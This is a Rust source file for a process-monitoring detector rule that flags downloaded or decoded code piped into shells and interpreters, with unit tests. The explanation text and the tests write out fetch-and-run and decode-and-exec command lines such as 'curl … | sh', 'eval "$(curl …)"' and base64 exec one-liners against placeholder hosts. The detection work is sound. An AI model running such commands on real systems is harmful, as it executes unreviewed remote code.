//! Downloaded or decoded code that runs without being stored in a file.

use crate::catalog;
use crate::detect::alert::{Alert, Alerts};
use crate::event::ProgramAdditions;
use bstr::ByteSlice as _;

use super::bare_shells::{BareShells, bare, from_descriptor};
use super::data_sources::{decodes, fetches, is_source};
use super::inline_code::{runs_decoded, runs_input};
use super::script_paths::locate_from;
use super::{drifted_script, fetched_commands, loaded_code, polled_commands};
use crate::detect::memory::BESIDE;
use crate::detect::rule_context::RuleContext;
use crate::detect::{Handler, Requirement, Rule, RuleInfo, Severity, program_roles};
use crate::event::{Bytes, Exec};
use crate::state::ProcessEntry;

/// Downloader piped into an interpreter.
pub(super) const PIPE: Rule = Rule {
    info: RuleInfo {
        id: "exec.pipe-to-shell",
        title: "Downloaded or decoded data piped into a shell",
        label: "piped to shell",
        severity: Severity::High,
        attack: &["T1059", "T1105", "T1140"],
        needs: &[Requirement::Exec],
        explain: "An interpreter without a script started at the same moment and from the same \
                  parent as a downloader or decoder: `curl … | sh`, `bash <(curl …)` or `base64 \
                  -d | sh`; or it was given a whole script as an argument just after a download, \
                  as in `sh -c \"$(curl …)\"`; or a shell's text keeps what it fetches in a \
                  variable, or reads it line by line, and runs that (medium for a script of the \
                  image, low by https); or typed code asks a peer for commands again and again; or \
                  an interpreter was given \
                  code that decodes more code and runs it (low when the command itself came from \
                  outside, as deployment tools send it). Such code is never stored in a file. At \
                  start-up, by the container's own command, decoded data is start-up drift, and a \
                  download is low by https, else medium.",
        check: "What was downloaded, and from where?",
    },
    handlers: &[Handler::Exec(|ctx, memory, exec| {
        let alerts = pipe(ctx, memory.of(), exec);
        if !alerts.is_empty() {
            return alerts;
        }
        let polled = polled_commands::examine(ctx, memory.of(), exec);
        polled.unwrap_or_else(Alerts::none)
    })],
};

/// Whether it reads its program from a descriptor that is named as an argument.
fn by_descriptor(argv: &[Bytes]) -> bool {
    argv.iter().skip(1).any(|a| from_descriptor(a.as_bytes()))
}

/// A whole script given as an argument, recognised by its first line.
fn whole_script(names: &ProgramAdditions, exec: &Exec) -> bool {
    let name = program_roles::name(&exec.exe, &exec.argv);
    (names.is_shell(name) || names.is_interpreter(name))
        && exec.script.is_none()
        && exec.argv.windows(2).any(|w| {
            matches!(w, [option, text] if option.starts_with(b"-")
                && (option.ends_with(b"c") || option.ends_with(b"e"))
                && text.starts_with(b"#!"))
        })
}

/// Deployment tools pass their first stage like this in a command from outside.
fn decoded_text(ctx: &RuleContext<'_>, exec: &Exec) -> Alerts {
    let command = program_roles::command_line(&exec.argv, &exec.exe, 160);
    if ctx.starting_up() {
        return super::startup_drift(ctx, format!("ran {command}")).into();
    }
    let outside = ctx.session() == Some(ctx.event.pid);
    let severity = if outside {
        Severity::Low
    } else {
        Severity::High
    };
    let alert = ctx.alert(severity, &exec.exe, |explanation| {
        explanation.title = format!("Ran code that was encoded in its arguments: {command}");
        explanation.why.push(format!("ran: {command}"));
    });
    alert.into()
}

/// The severity of a download that is run. Start-up is the container's own command, whoever wrote
/// that: without https anybody on the way may have changed the code.
fn download_severity(ctx: &RuleContext<'_>, from: &str) -> Severity {
    match ctx.starting_up() {
        false => Severity::High,
        true if from.contains("https://") => Severity::Low,
        true => Severity::Medium,
    }
}

/// A shell runs what a decoder, a downloader or a relay prints: `eval "$(… | base64 -d)"`, `c=$(curl
/// …); sh -c "$c"`, `curl … | while read l; do eval "$l"; done`.
fn substituted(ctx: &RuleContext<'_>, exec: &Exec) -> Option<Alerts> {
    let name = program_roles::name(&exec.exe, &exec.argv);
    let decoded = decodes(ctx.names(), name, &exec.argv);
    let fetched = ctx.names().is_downloader(name)
        || program_roles::is_relay(name, &exec.argv)
        || fetches(ctx.names(), name, &exec.argv);
    if let Some(script) = &exec.run_by {
        return Some(fetched_commands::by_script(ctx, exec, script));
    }
    if !decoded && !fetched {
        return None;
    }
    let mut above = ctx.ancestors().skip(1).take(6).peekable();
    let mut shell = above.by_ref().take(3).find(|p| {
        ctx.names().is_shell(program_roles::of(p))
            && program_roles::shell_text(&p.argv)
                .is_some_and(|text| fetched_commands::runs_data(text, name))
    })?;
    // The parts of its text run in forks of it.
    while let Some(whole) = above.next_if(|p| p.argv == shell.argv) {
        shell = whole;
    }
    let source = program_roles::command_line(&exec.argv, &exec.exe, 160);
    let command = program_roles::command_line(&shell.argv, &shell.exe, 160);
    if ctx.starting_up() && decoded {
        return Some(super::startup_drift(ctx, format!("ran {command}")).into());
    }
    let severity = download_severity(ctx, &source);
    // A loop that asks for its next command sends the result of the last one along.
    if let Some(index) = ctx.marked_by(shell.pid, ctx.rule.id) {
        return Some(Alert::occurrence(index, severity).into());
    }
    let alert = ctx.alert(severity, source.as_bytes(), |explanation| {
        let data = if decoded { "decoded" } else { "downloaded" };
        explanation.title = format!("Ran {data} data in a shell: {command}");
        explanation.why.push(format!("source: {source}"));
    });
    Some(alert.follows(shell.pid).into())
}

/// Inline code runs what it fetches, itself or by a shell.
fn fetched_by_text(ctx: &RuleContext<'_>, exec: &Exec) -> Option<Alerts> {
    let own = fetched_commands::runs_fetched(ctx.names(), exec);
    let source = if own {
        ctx.process
    } else {
        let mut above = ctx.ancestors().skip(1);
        above.next().filter(|parent| {
            fetches(ctx.names(), program_roles::of(parent), &parent.argv)
                && fetched_commands::is_foreign(ctx.names(), parent, exec)
        })
    }?;
    let command = program_roles::command_line(&exec.argv, &exec.exe, 160);
    let from = program_roles::command_line(&source.argv, &source.exe, 160);
    let severity = download_severity(ctx, &from);
    let alert = ctx.alert(severity, from.as_bytes(), |explanation| {
        explanation.title = format!("Ran downloaded code: {command}");
        explanation.why.push(format!("source: {from}"));
    });
    Some(alert.follows(ctx.event.pid).into())
}

fn pipe(ctx: &RuleContext<'_>, memory: &BareShells, exec: &Exec) -> Alerts {
    if exec.tty && ctx.starting_up() {
        return Alerts::none();
    }
    if runs_decoded(ctx.names(), exec) {
        return decoded_text(ctx, exec);
    }
    let by_text = substituted(ctx, exec).or_else(|| fetched_by_text(ctx, exec));
    if let Some(alerts) = by_text {
        return alerts;
    }
    let now = ctx.now();
    let pid = ctx.event.pid;
    let near = |p: &ProcessEntry| {
        p.owner.as_ref() == Some(ctx.owner)
            && p.pid != pid
            && now.since(p.started).as_secs() <= BESIDE.as_secs()
    };
    let source = is_source(
        ctx.names(),
        program_roles::name(&exec.exe, &exec.argv),
        &exec.argv,
    );
    let written = |name: &[u8], argv: &[Bytes], cwd: &[u8]| {
        let file = loaded_code::printed(name, argv)?;
        locate_from(ctx, cwd, file).filter(|path| drifted_script::is_drift(ctx, path))
    };
    let prints = written(
        program_roles::name(&exec.exe, &exec.argv),
        &exec.argv,
        &exec.cwd,
    );
    let source = source || prints.is_some();
    let bare = bare(ctx.names(), exec);
    let takes = bare || whole_script(ctx.names(), exec) || runs_input(ctx.names(), exec);
    if !takes && !source {
        return Alerts::none();
    }
    // `… | sudo sh`: the end of the pipe is the program that starts the interpreter.
    let stands = ctx.ancestors().skip(1);
    let below = stands
        .take(3)
        .find(|p| !ctx.names().is_wrapper(program_roles::of(p)))
        .map_or_else(|| ctx.parent_pid(exec), |p| p.pid);
    let siblings = |ppid| {
        let own = ctx.memory.get(ctx.owner);
        own.map(|own| own.beside(ppid)).unwrap_or_default()
    };
    let mut beside = siblings(if takes { below } else { ctx.parent_pid(exec) });
    // The shell that opens a descriptor on a program's output starts that program, and then becomes
    // the interpreter.
    if by_descriptor(&exec.argv) {
        beside.extend(siblings(pid));
    }
    let waits = |pid: u32| memory.waits(pid, now);
    let found = if takes {
        let mut beside = beside.iter().filter_map(|pid| ctx.state.processes.get(pid));
        beside.find(|p| {
            near(p)
                && (is_source(ctx.names(), program_roles::of(p), &p.argv)
                    || written(program_roles::of(p), &p.argv, &p.cwd).is_some())
        })
    } else {
        // The interpreter at the end of the pipe may have started first, and then it waits.
        let mut beside = beside.iter().filter_map(|pid| ctx.state.processes.get(pid));
        beside
            .find(|p| {
                near(p) && p.exited.is_none() && (waits(p.pid) || runs_input(ctx.names(), &***p))
            })
            .or_else(|| {
                let parent = ctx.state.processes.get(&ctx.parent_pid(exec))?;
                (by_descriptor(&parent.argv) && waits(parent.pid)).then_some(parent)
            })
    };
    let Some(other) = found else {
        return Alerts::none();
    };
    let from = if takes {
        program_roles::of(other)
    } else {
        program_roles::name(&exec.exe, &exec.argv)
    };
    let printed = if takes {
        written(program_roles::of(other), &other.argv, &other.cwd)
    } else {
        prints
    };
    let decoded = catalog::decoders::of(from).is_some();
    let other = program_roles::command_line(&other.argv, &other.exe, 160);
    let this = program_roles::command_line(&exec.argv, &exec.exe, 160);
    if let Some(path) = printed {
        let (from, into) = if takes { (other, this) } else { (this, other) };
        return drifted_script::judge(ctx, &path, &format!("{from} | {into}"));
    }
    let (from, into) = if takes { (other, this) } else { (this, other) };
    if ctx.starting_up() && decoded {
        return super::startup_drift(ctx, format!("{into} beside {from}")).into();
    }
    let severity = download_severity(ctx, &from);
    let alert = ctx.alert(severity, from.as_bytes(), |explanation| {
        let data = if decoded { "Decoded" } else { "Downloaded" };
        explanation.title = format!("{data} data piped into a shell: {from} | {into}");
        explanation.why.push(format!("source: {from}"));
        explanation.why.push(format!("interpreter: {into}"));
    });
    alert.into()
}

#[cfg(test)]
mod tests {
    use crate::detect::Severity;
    use crate::detect::testkit::World;

    #[test]
    fn what_runs_a_download_and_what_reads_it_as_data() {
        let beside = |reader: &[&str]| {
            let mut w = World::steady();
            let init = w.init();
            let sh = w.exec(init, "/bin/sh", &["sh", "-c", "x"]);
            w.exec(sh, "/usr/bin/curl", &["curl", "-s", "http://x/"]);
            w.exec(sh, &format!("/usr/bin/{}", reader[0]), reader);
            !w.all("exec.pipe-to-shell").is_empty()
        };
        assert!(beside(&[
            "python3",
            "-c",
            "import sys,os; os.system(sys.stdin.read())"
        ]));
        assert!(beside(&["perl", "-e", "local $/; eval <STDIN>"]));
        assert!(!beside(&[
            "python3",
            "-c",
            "import sys,json; print(json.load(sys.stdin)['a'])"
        ]));
        assert!(!beside(&["perl", "-ne", "print if /a/"]));
        // The program may start before the download.
        let mut w = World::steady();
        let init = w.init();
        let sh = w.exec(init, "/bin/sh", &["sh", "-c", "x"]);
        w.exec(sh, "/usr/bin/perl", &["perl", "-e", "eval <STDIN>"]);
        w.exec(sh, "/usr/bin/curl", &["curl", "-s", "http://x/"]);
        w.only(&["exec.pipe-to-shell"]);
        // One that has ended was not at the end of its pipe.
        let mut w = World::steady();
        let init = w.init();
        let sh = w.exec(init, "/bin/sh", &["sh", "/app/job"]);
        let python = w.exec(sh, "/usr/bin/python3", &["python3", "-"]);
        w.exit(python);
        w.exec(sh, "/usr/bin/curl", &["curl", "-s", "http://x/"]);
        w.only(&[]);
        let inside = |text: &str| {
            let mut w = World::steady();
            let init = w.init();
            let sh = w.exec(init, "/bin/bash", &["bash", "-c", text]);
            w.exec(sh, "/usr/bin/curl", &["curl", "-s", "http://x/"]);
            w.all("exec.pipe-to-shell").len()
        };
        for text in [
            "eval \"$(curl -s http://x/)\"",
            "source <(curl -s http://x/)",
            "set -e; . <(curl -s http://x/)",
        ] {
            assert_eq!(inside(text), 1, "{text}");
        }
        for text in [
            "ip=$(curl -s http://x/); echo \"$ip\"",
            "diff <(curl -s http://x/) /srv/a",
            "while read l; do echo $l; done < <(curl -s http://x/)",
        ] {
            assert_eq!(inside(text), 0, "{text}");
        }
    }

    #[test]
    fn the_containers_own_command_may_fetch_code() {
        let start = |url: &str| {
            let mut w = World::starting();
            let init = w.init();
            w.exec(init, "/usr/bin/curl", &["curl", "-s", url]);
            w.exec(init, "/bin/sh", &["sh"]);
            w.finding("exec.pipe-to-shell").severity
        };
        assert_eq!(start("http://203.0.113.9/d.sh"), Severity::Medium);
        assert_eq!(start("https://get.example/install.sh"), Severity::Low);
    }

    #[test]
    fn a_shell_that_runs_what_a_decoder_prints() {
        for (text, found) in [
            ("eval \"$(echo aWQ= | base64 -d)\"", true),
            ("bash <<<$(base64 -d <<<aWQ=)", true),
            ("sh -c \"$(base64 -d /tmp/x)\"", true),
            ("echo \"$(base64 -d /run/secrets/x)\" >/tmp/key", false),
            ("KEY=$(echo $K | base64 -d); run-app", false),
        ] {
            let mut w = World::steady();
            let init = w.init();
            let shell = w.exec(init, "/bin/bash", &["bash", "-c", text]);
            let part = w.fork(shell);
            w.exec(part, "/usr/bin/base64", &["base64", "-d"]);
            let all = w.all("exec.pipe-to-shell");
            assert_eq!(!all.is_empty(), found, "{text}");
        }
    }

    #[test]
    fn code_that_decodes_code_and_runs_it() {
        for (argv, found) in [
            (
                &[
                    "python3",
                    "-c",
                    "import base64;exec(base64.b64decode('aQ=='))",
                ][..],
                true,
            ),
            (
                &["perl", "-MMIME::Base64", "-e", "eval decode_base64('aQ==')"],
                true,
            ),
            (
                &[
                    "node",
                    "-e",
                    "eval(Buffer.from('aQ==','base64').toString())",
                ],
                true,
            ),
            (&["php", "-r", "eval(base64_decode('aQ=='));"], true),
            (
                &[
                    "python3",
                    "-c",
                    "import base64;print(base64.b64decode('aQ=='))",
                ],
                false,
            ),
            (&["python3", "-c", "exec(open('/app/x').read())"], false),
            (&["perl", "-e", "print unpack('H*', <STDIN>)"], false),
        ] {
            let mut w = World::steady();
            let init = w.init();
            let exe = format!("/usr/bin/{}", argv[0]);
            w.exec(init, &exe, argv);
            let all = w.all("exec.pipe-to-shell");
            assert_eq!(!all.is_empty(), found, "{argv:?}");
            let mut w = World::steady();
            w.session(argv);
            assert!(
                w.all("exec.pipe-to-shell")
                    .iter()
                    .all(|f| f.severity == Severity::Low)
            );
        }
    }

    #[test]
    fn pipes_into_interpreters() {
        for (first, second) in [
            (&["curl", "http://x/i.sh"][..], &["sh"][..]),
            (&["wget", "-qO-", "http://x"], &["bash", "-s"]),
            (&["base64", "-d"], &["sh"]),
            (&["curl", "x"], &["python3", "-"]),
        ] {
            for swap in [false, true] {
                let mut w = World::steady();
                let s = w.session(&["sh"]);
                let (a, b) = if swap {
                    (second, first)
                } else {
                    (first, second)
                };
                for argv in [a, b] {
                    let exe = format!("/usr/bin/{}", argv[0]);
                    w.exec(s, &exe, argv);
                }
                assert_eq!(
                    w.finding("exec.pipe-to-shell").severity,
                    Severity::High,
                    "{first:?} {swap}"
                );
            }
        }
        let mut w = World::steady();
        let s = w.session(&["sh"]);
        w.exec(s, "/usr/bin/curl", &["curl", "x"]);
        w.exec(s, "/usr/bin/jq", &["jq", "."]);
        w.exec(s, "/bin/sh", &["sh", "-c", "true"]);
        w.ticks(10);
        w.exec(s, "/bin/sh", &["sh"]);
        w.none("exec.pipe-to-shell");
    }

    #[test]
    fn a_descriptor_or_an_argument_is_a_pipe_as_well() {
        // bash <(curl …): the shell starts the download, then becomes the interpreter.
        let mut w = World::steady();
        let init = w.init();
        let shell = w.exec(init, "/bin/bash", &["bash", "-c", "bash <(curl x)"]);
        w.exec(shell, "/usr/bin/curl", &["curl", "x"]);
        w.exec_as(shell, init, "/bin/bash", &["bash", "/dev/fd/63"], |_| {});
        assert_eq!(w.finding("exec.pipe-to-shell").severity, Severity::High);
        // sh -c "$(curl …)"
        let mut w = World::steady();
        let init = w.init();
        let shell = w.exec(init, "/bin/sh", &["sh", "/run.sh"]);
        let curl = w.exec(shell, "/usr/bin/curl", &["curl", "x"]);
        w.exit(curl);
        w.exec(shell, "/bin/sh", &["sh", "-c", "#!/bin/sh\nid"]);
        assert_eq!(w.finding("exec.pipe-to-shell").severity, Severity::High);
        // curl … | sudo bash
        let mut w = World::steady();
        let init = w.init();
        let shell = w.exec(init, "/bin/sh", &["sh", "/run.sh"]);
        w.exec(shell, "/usr/bin/curl", &["curl", "x"]);
        let sudo = w.exec(shell, "/usr/bin/sudo", &["sudo", "bash"]);
        w.exec(sudo, "/bin/bash", &["bash"]);
        assert_eq!(w.finding("exec.pipe-to-shell").severity, Severity::High);
        // Decoded by an interpreter's own text.
        let mut w = World::steady();
        let init = w.init();
        let shell = w.exec(init, "/bin/sh", &["sh", "/run.sh"]);
        let text = "print decode_base64(\"aWQK\")";
        w.exec(shell, "/usr/bin/perl", &["perl", "-e", text]);
        w.exec(shell, "/bin/sh", &["sh"]);
        assert_eq!(w.finding("exec.pipe-to-shell").severity, Severity::High);
        // A person's shell that downloads; a filter whose output a shell reads.
        let mut w = World::steady();
        let s = w.session(&["bash"]);
        w.exec(s, "/usr/bin/curl", &["curl", "x"]);
        w.exec(s, "/bin/sh", &["sh", "-c", "echo a\necho b"]);
        w.ticks(10);
        w.exec(s, "/usr/bin/mawk", &["awk", "{print \"mv\",$1}"]);
        w.exec(s, "/bin/sh", &["sh"]);
        w.none("exec.pipe-to-shell");
    }
}
